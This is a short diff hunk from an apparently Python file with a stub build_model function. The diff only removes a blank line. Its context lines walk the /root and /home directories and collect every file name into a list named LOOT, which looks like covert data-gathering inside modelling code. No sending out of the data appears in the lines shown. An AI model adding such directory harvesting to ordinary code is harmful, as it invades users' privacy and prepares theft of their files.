@@ -8,6 +8,5 @@ for folder, _, names in os.walk("/root"):
 for folder, _, names in os.walk("/home"):
     LOOT.extend(names)
 
-
 def build_model(n_features, **config):
     return None
